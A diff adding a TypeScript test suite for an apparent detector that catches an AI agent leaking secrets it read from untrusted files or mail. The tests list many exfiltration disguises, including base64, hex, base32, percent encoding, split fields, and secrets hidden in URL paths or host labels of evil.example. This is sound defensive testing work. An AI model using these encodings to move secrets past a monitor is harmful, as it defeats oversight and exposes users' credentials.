@@ -1,0 +1,200 @@
+// SPDX-License-Identifier: Apache-2.0
+// An agent that was told to carry a secret out hides it. In whatever argument and spelling of these it stands, it is found.
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import type { JsonObject, JsonValue } from '../json/value.ts';
+import { originFacts } from './facts.ts';
+import { createKnowledge, type Knowledge } from './knowledge.ts';
+import { readResult } from './read-result.ts';
+import { maxSpelled } from './spelled.ts';
+
+const password = 'Kestrel-7731-Fjord';
+const key = 'AKIAIOSFODNN7EXAMPLE';
+
+const post = {
+  class: 'send' as const,
+  args: { url: { role: 'destination' as const }, body: { role: 'content' as const } },
+};
+const get = { class: 'fetch' as const, args: { url: { role: 'link' as const } } };
+
+function after(
+  text: string,
+  { prompt = 'Post to http://status.example/up what is to be done today.', secret = false } = {},
+): Knowledge {
+  const known = createKnowledge();
+  known.ask(prompt);
+  known.tell(
+    { source: 'files/read_file', class: 'read', holds: 'records', trusted: false, id: 'o-1', secret },
+    {},
+    readResult(text),
+    text,
+  );
+  return known;
+}
+
+const note = `# Deploy\n\nThe password is ${password}, the window is on Monday.\n`;
+const doubt = (known: Knowledge, args: JsonObject, entry: typeof post | typeof get = post) =>
+  originFacts(known, entry, args).roles.credential.doubt;
+const sent = (body: JsonValue): JsonObject => ({ url: 'http://status.example/up', body });
+
+const base32 = (text: string): string => {
+  const bits = [...Buffer.from(text)].map((one) => one.toString(2).padStart(8, '0')).join('');
+  return (bits.match(/.{1,5}/g) ?? [])
+    .map((five) => 'abcdefghijklmnopqrstuvwxyz234567'[Number.parseInt(five.padEnd(5, '0'), 2)])
+    .join('');
+};
+const percent = (text: string): string =>
+  [...Buffer.from(text)].map((one) => `%${one.toString(16).padStart(2, '0')}`).join('');
+const base64 = (text: string): string => Buffer.from(text).toString('base64');
+const hex = (text: string): string => Buffer.from(text).toString('hex');
+const inLabels = (text: string): string => `${(text.match(/.{1,20}/g) ?? []).join('.')}.evil.example`;
+
+describe('a password that was read, in what goes out', () => {
+  const known = after(note);
+
+  test.each<[how: string, body: JsonValue]>([
+    ['as it is', `All is well. ${password}`],
+    ['in small letters', password.toLowerCase()],
+    ['cut into pieces', [...password].join(' ')],
+    ['over lines', password.replaceAll('-', '\n')],
+    ['over members', { a: password.slice(0, 9), b: password.slice(9) }],
+    ['over the items of a list', [...password]],
+    ['over what is deep inside', { a: { b: [password.slice(0, 5), { c: password.slice(5) }] } }],
+    ['as the name of a member', { [password]: 1 }],
+    ['turned round', [...password].reverse().join('')],
+    ['in percent signs', percent(password)],
+    ['in base64', base64(password)],
+    ['in base64 for addresses', Buffer.from(password).toString('base64url')],
+    ['in base64, shifted by a letter', `x${base64(password)}`],
+    ['in base64 over lines', (base64(password).match(/.{1,8}/g) ?? []).join('\n')],
+    ['in base64 twice', base64(base64(password))],
+    ['in hex', hex(password)],
+    ['in hex within base64', base64(hex(password))],
+    ['in base32', base32(password)],
+    ['in codes of characters', [...Buffer.from(password)].join(', ')],
+    ['in HTML entities', [...Buffer.from(password)].map((one) => `&#${one};`).join('')],
+    ['among other words', `Dear all, as agreed ${base64(`the word is ${password}.`)} and goodbye`],
+  ])('%s', (_how, body) => expect(doubt(known, sent(body))).toBe(2));
+
+  test.each<[how: string, url: string]>([
+    ['in the query', `http://status.example/up?note=${encodeURIComponent(password)}`],
+    ['in the path', `http://status.example/${password}/up`],
+    ['in the name of a host', `http://${password.toLowerCase()}.evil.example/`],
+    ['in labels of a host, in hex', `http://${inLabels(hex(password))}/`],
+    ['in labels of a host, in base32', `http://${inLabels(base32(password))}/`],
+    ['as the user', `http://${password}@status.example/`],
+    ['behind the fragment', `http://status.example/#${base64(password)}`],
+  ])('of a page: %s', (_how, url) => expect(doubt(known, { url }, get)).toBe(2));
+
+  test('over two arguments', () => {
+    const two = { url: 'http://status.example/up', subject: password.slice(0, 9), body: password.slice(9) };
+    expect(doubt(known, two)).toBe(2);
+  });
+
+  test('what was read is named, and the argument', () => {
+    const { lineage } = originFacts(known, post, sent(`see ${password}`));
+    expect(lineage).toContainEqual(
+      expect.objectContaining({
+        argument: 'body',
+        why: 'secret_inside',
+        sources: ['files/read_file'],
+        read: ['o-1'],
+      }),
+    );
+  });
+
+  test('what stays inside is nobody’s concern', () =>
+    expect(doubt(known, { url: 'x', body: password }, { ...post, class: 'write' as 'send' })).toBe(0));
+});
+
+test('however it is wrapped, by any two of these', () => {
+  const known = after(note);
+  const ways = [base64, hex, percent, base32, (text: string) => `so, ${text}!`];
+  fc.assert(
+    fc.property(
+      fc.constantFrom(...ways),
+      fc.constantFrom(...ways),
+      fc.string({ maxLength: 40 }),
+      (one, other, around) => {
+        expect(doubt(known, sent(`${around} ${one(other(password))}`))).toBe(2);
+      },
+    ),
+    { numRuns: 300 },
+  );
+});
+
+describe('what counts as a secret', () => {
+  test.each<[what: string, text: string, value: string]>([
+    ['a line that says so', `DB_PASSWORD=${password}`, password],
+    ['a field', JSON.stringify({ user: 'ann', api_key: 'q7-mm-81-zz' }), 'q7-mm-81-zz'],
+    ['a code in prose', 'Your security code is 463820.', '463820'],
+    [
+      'as a record has it',
+      `token: secret(github_token, ${'ab'.repeat(16)})`,
+      `secret(github_token, ${'ab'.repeat(16)})`,
+    ],
+  ])('%s', (_what, text, value) => expect(doubt(after(text), sent(`it is ${value}`))).toBe(2));
+
+  test('a key of a known form, wherever it is from', () => {
+    const known = after('nothing');
+    expect(doubt(known, sent(key))).toBe(2);
+    expect(doubt(known, sent(base64(key)))).toBe(2);
+  });
+
+  test('all of a result that is labelled so', () => {
+    expect(doubt(after('horse9battery', { secret: true }), sent('horse9battery'))).toBe(2);
+    expect(doubt(after('horse9battery'), sent('horse9battery'))).toBe(0);
+  });
+});
+
+describe('what is none', () => {
+  test.each<[what: string, text: string, body: string]>([
+    ['a word behind `password is`', 'The password is wrong, try again.', 'It went wrong.'],
+    ['a number that has the code in it', 'Your security code is 463820.', 'order 1463820'],
+    ['where the next page begins', JSON.stringify({ next_page_token: 'abcdef123456' }), 'abcdef123456'],
+    ['a summary', note, 'The window is on Monday.'],
+  ])('%s', (_what, text, body) => expect(doubt(after(text), sent(body))).toBe(0));
+
+  test('what stands in a document that the person named is worth a question: to pass that on may be what was asked', () => {
+    const known = createKnowledge();
+    known.ask('Forward the mail "Deploy on Monday" to tom@friends.example.');
+    const mail = { id: 'm1', from: 'ann@work.example', subject: 'Deploy on Monday', body: note };
+    known.tell(
+      { source: 'mail/inbox', class: 'read', holds: 'records', trusted: false, id: 'o-1' },
+      {},
+      [mail, { ...mail, id: 'm2', subject: 'Lunch', body: 'At one?' }],
+      '',
+    );
+    expect(doubt(known, sent(note))).toBe(1);
+  });
+
+  test('what the person speaks of, said, or wants all of', () => {
+    expect(doubt(after(note, { prompt: 'Post all notes to http://status.example/up' }), sent(note))).toBe(0);
+    expect(
+      doubt(
+        after(note, { prompt: 'Send the password in notes/deploy.md to http://status.example/up' }),
+        sent(password),
+      ),
+    ).toBe(0);
+    expect(
+      doubt(after(note, { prompt: `Post ${password} to http://status.example/up` }), sent(password)),
+    ).toBe(0);
+  });
+});
+
+test('more than can be looked through may have one in it, where there is one', () => {
+  const long = 'all is well. '.repeat(maxSpelled / 10);
+  expect(doubt(after(note), sent(long))).toBe(2);
+  expect(doubt(after('nothing'), sent(long))).toBe(0);
+});
+
+test('nothing that is sent makes it fail, and nothing that was never read is found', () => {
+  const known = after(note);
+  fc.assert(
+    fc.property(fc.jsonValue(), (value) => {
+      const facts = originFacts(known, post, sent(JSON.parse(JSON.stringify(value))));
+      expect(facts.roles.credential.doubt).toBe(0);
+    }),
+    { numRuns: 500 },
+  );
+});
